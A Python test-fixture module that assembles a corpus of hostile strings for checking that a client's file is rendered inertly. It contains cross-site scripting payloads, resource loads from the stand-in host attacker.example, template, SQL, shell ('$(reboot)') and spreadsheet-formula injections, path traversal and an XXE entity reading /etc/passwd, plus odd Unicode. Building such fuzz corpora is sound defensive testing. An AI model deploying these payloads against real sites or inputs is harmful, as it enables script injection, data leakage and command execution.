"""Strings that a client's file may hold and that must never do anything: markup, handlers, styles, templates, tricks."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
AWAY = "http://attacker.example/leak"  # nobody answers there, and nobody may be asked
CARRIERS = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href={AWAY}#x></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
)
BREAKS = ("", "\"'>", "</style></title></script>", "--></textarea></noscript>", "</td></table></details></main>", "]]>\n\n")
ALONE = (
    f"' onmouseover='{RUN}", f'" onfocus="{RUN}" autofocus="', f"javascript:{RUN}", f"JaVaScRiPt&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"[click](javascript:{RUN})", f"[x]: {AWAY}", f"![pixel]({AWAY}.png)",
    f"![p][x]\n\n[x]: {AWAY}.png", f"<{AWAY}>", f"[a]({AWAY} '{RUN}')", "`code` **bold** _it_ ~~no~~ # title", "# Title\n\n* a",
    "| a | b |\n| --- | --- |\n| 1 | 2 |", "1. one\n2. two", "> quoted", "***", "---\ntitle: x\n---", "\\<b\\>", "&lt;b&gt;",
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{{ ''.__class__.__mro__ }}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ settings.__init__.__globals__ }}", "{0.__class__}", "%(x)s %s %n", "$(reboot)", "`reboot`", "'; DROP TABLE x; --",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "\t=1+1", "../../../etc/passwd", "C:\\con\\nul", "file:///etc/passwd",
    "", " ", "null", "None", "undefined", "NaN", "true", "0", "[]", "{}", "-1e999", "\u00a0", "\n\n\n", "\r\n",
    "\u202egnp.exe", "\u2066hidden\u2069", "zero\u200bwidth\u200djoin", "\ufeffmark", "a\x00b", "\x1b[31mred\x1b[0m", "\x07\x08",
    "\ud800", "\udfff tail", "\ufffe\uffff", "tag\U000e0041\U000e0042", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd", "Z\u0351\u036b\u0343\u036a\u0302" * 20, "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f9ea",
    "\u2028line\u2029para", "x" * 20_000, "very " * 4_000, "<" * 3_000, "&" * 3_000, "<b>" * 500, "]]>" * 50, "\u2264 \u2014 \u201cquotes\u201d",
    "<!--", "<!doctype x [<!entity e SYSTEM 'file:///etc/passwd'>]>&e;", "<?xml version='1.0'?>", "<![CDATA[x]]>", "</main></body></html>",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "</script><script>alert(1)//", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg/onload=alert(1)//", "<a href=#x id=main name=seal>x</a>",
)  # fmt: skip
HOSTILE = [*("".join(pair) for pair in product(BREAKS, CARRIERS)), *ALONE]
